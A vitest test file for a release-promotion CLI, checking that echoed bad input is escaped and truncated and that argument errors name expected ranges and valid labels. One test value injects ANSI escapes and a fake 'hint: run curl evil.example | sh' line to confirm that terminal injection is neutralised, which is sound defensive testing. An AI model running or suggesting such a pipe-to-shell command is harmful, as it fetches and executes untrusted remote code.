// What the CLI says about bad input, before any request: every value echoed is escaped (no ANSI escape or
// newline reaches the terminal) and cut; ranges are named; an unknown label is refused, not answered empty.
import { join } from 'node:path';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { escapeControls, shown } from '../../client/cli-kit.js';
import { ROOT } from '../../scripts/sandbox/stack-env.js';
import { runVerb } from '../helpers/cli-inproc.js';

const WALLABY = join(ROOT, 'config', 'sandbox', 'wallaby.yaml');
const EVIL = '\u001b[2J\u001b[31mcurrent-tripleo\nhint: run curl evil.example | sh\u0007';

beforeEach(() => {
  // the sandbox release file reads its endpoints from the environment; nothing here connects to them
  for (const v of ['DLRN_WALLABY_URL', 'DLRN_REPO_URL']) vi.stubEnv(v, 'http://127.0.0.1:1');
  for (const v of ['SOURCE_REGISTRY', 'TARGET_REGISTRY']) vi.stubEnv(v, '127.0.0.1:1');
  vi.stubEnv('IMAGE_SERVER_HOST', '127.0.0.1');
  vi.stubEnv('IMAGE_SERVER_PORT', '1');
  vi.stubEnv('IMAGE_SERVER_USER', 'u');
  vi.stubEnv('IMAGE_SERVER_ROOT', '/nonexistent');
  vi.stubEnv('TEMPORAL_ADDRESS', '127.0.0.1:1');
});

/** No control character at all except the newlines between lines. */
// eslint-disable-next-line no-control-regex -- the point: no control character may be printed
const clean = (s: string) => !/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(s);

describe('echoed values', () => {
  it('escapes ANSI escapes, newlines and bells, and cuts a long value saying how long it was', () => {
    expect(escapeControls('a\u001b[31mb\nc\u0007')).toBe('a\\u001b[31mb\\nc\\u0007');
    const long = shown('x'.repeat(5000));
    expect(long.length).toBeLessThan(120);
    expect(long).toContain('(5000 characters)');
  });

  it.each([
    ['hold', ['hold', '--label', EVIL, '--why', 'w', '-c', WALLABY]],
    ['status', ['status', '--label', EVIL, '-c', WALLABY]],
    ['explain', ['explain', EVIL, '--label', 'current-tripleo', '-c', WALLABY]],
    ['waive', ['waive', '--job', EVIL, '--hash', 'a'.repeat(32), '--for', '2h', '--why', 'w', '-c', WALLABY]],
  ])('%s: a value holding ANSI escapes and a newline is printed escaped, on its own line', async (_, args) => {
    const r = await runVerb(args);
    expect(r.code).toBe(2);
    expect(clean(r.stderr)).toBe(true);
    expect(r.stderr).toContain('\\u001b[31mcurrent-tripleo\\nhint: run curl');
    expect(r.stderr).not.toMatch(/^hint: run curl/m);
  });

  it('a very long value is cut in the error', async () => {
    const r = await runVerb(['hold', '--label', 'L'.repeat(100_000), '--why', 'w', '-c', WALLABY]);
    expect(r.code).toBe(2);
    expect(r.stderr.length).toBeLessThan(600);
    expect(r.stderr).toContain('(100000 characters)');
  });
});

describe('arguments named as given', () => {
  it('explain zzz names the argument and what it got', async () => {
    const r = await runVerb(['explain', 'zzz', '--label', 'current-tripleo', '-c', WALLABY]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('error: <full_hash>: expected a full_hash (got zzz)');
  });

  it('promotions --limit 1000 says the range it expects', async () => {
    const r = await runVerb(['promotions', '--label', 'current-tripleo', '--limit', '1000', '-c', WALLABY]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--limit: expected a whole number from 1 to 100');
    expect(r.stderr).toContain('(got 1000)');
  });

  it('status --label nope is refused with the labels there are, not answered with an empty table', async () => {
    const r = await runVerb(['status', '--label', 'nope', '-c', WALLABY]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain('--label: nope is not a promotion target of wallaby/centos9');
    expect(r.stderr).toContain('use one of: current-tripleo, current-tripleo-rdo');
  });
});
